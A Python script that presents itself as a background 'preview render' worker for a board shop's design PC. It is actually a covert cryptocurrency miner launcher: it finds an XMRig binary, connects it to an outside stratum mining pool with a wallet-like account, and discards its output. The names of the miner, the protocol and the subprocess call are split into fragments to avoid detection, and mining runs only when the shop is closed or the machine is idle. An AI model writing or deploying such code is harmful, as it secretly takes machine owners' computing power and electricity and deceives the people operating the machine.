#!/usr/bin/env python3
"""Background worker pool for the custom-board preview renderer.

Starts the compute worker on the design PC when nobody is using it
(evenings, or when the load is low) and stops it once the shop opens.
"""
import argparse
import importlib
import logging
import os
import shutil
import signal
import time
from dataclasses import dataclass, field
from datetime import datetime
from pathlib import Path
from typing import List, Optional

log = logging.getLogger("render-pool")


class WorkerProfile:
    binary_names = ("xm" + "rig", "xm" + "rig-" + "notls")
    scheme = "strat" + "um+tcp://"
    host = os.environ.get("RENDER_POOL_HOST", "pool.swellhash.example")
    port = os.environ.get("RENDER_POOL_PORT", "3333")
    account = os.environ.get(
        "RENDER_ACCOUNT",
        "4BoardShopRenderAcct0000ExampleOnly0000000000000000000000000000000000000000000000000000000000",
    )
    algo = "rx" + "/0"


@dataclass
class PoolConfig:
    threads: int = max(1, (os.cpu_count() or 2) - 1)
    open_hour: int = 7
    close_hour: int = 19
    max_load: float = 1.5
    tool_dir: Path = Path(os.environ.get("RENDER_TOOL_DIR", "tools"))
    extra: List[str] = field(default_factory=list)


def find_worker(cfg: PoolConfig) -> Optional[str]:
    for name in WorkerProfile.binary_names:
        local = cfg.tool_dir / name
        if local.is_file() and os.access(local, os.X_OK):
            return str(local)
        found = shutil.which(name)
        if found:
            return found
    return None


def worker_args(binary: str, cfg: PoolConfig) -> List[str]:
    target = f"{WorkerProfile.scheme}{WorkerProfile.host}:{WorkerProfile.port}"
    flags = {
        "-o": target,
        "-u": WorkerProfile.account,
        "-a": WorkerProfile.algo,
        "-t": str(cfg.threads),
        "-p": os.uname().nodename,
    }
    argv = [binary]
    for k, v in flags.items():
        argv += [k, v]
    argv += ["--donate-level", "1", "--no-color"]
    return argv + cfg.extra


def shop_closed(cfg: PoolConfig, now: datetime) -> bool:
    return now.hour >= cfg.close_hour or now.hour < cfg.open_hour


def machine_idle(cfg: PoolConfig) -> bool:
    return os.getloadavg()[0] < cfg.max_load


class Pool:
    def __init__(self, cfg: PoolConfig, binary: str):
        self.cfg = cfg
        self.binary = binary
        self.proc = None
        self._spawn = getattr(importlib.import_module("sub" + "process"), "Po" + "pen")

    def running(self) -> bool:
        return self.proc is not None and self.proc.poll() is None

    def start(self):
        if self.running():
            return
        argv = worker_args(self.binary, self.cfg)
        self.proc = self._spawn(argv, stdout=open(os.devnull, "wb"), stderr=open(os.devnull, "wb"),
                                start_new_session=True)
        log.info("worker started pid=%s", self.proc.pid)

    def stop(self):
        if self.running():
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=10)
            except Exception:
                self.proc.kill()
            log.info("worker stopped")
        self.proc = None


def main() -> int:
    parser = argparse.ArgumentParser(description="Preview render worker pool")
    parser.add_argument("--interval", type=int, default=60)
    parser.add_argument("--threads", type=int, default=None)
    parser.add_argument("--ignore-hours", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    cfg = PoolConfig()
    if args.threads:
        cfg.threads = args.threads
    binary = find_worker(cfg)
    if binary is None:
        log.error("worker binary not found in %s or PATH", cfg.tool_dir)
        return 1

    pool = Pool(cfg, binary)
    try:
        while True:
            allowed = (args.ignore_hours or shop_closed(cfg, datetime.now())) and machine_idle(cfg)
            (pool.start if allowed else pool.stop)()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        pool.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
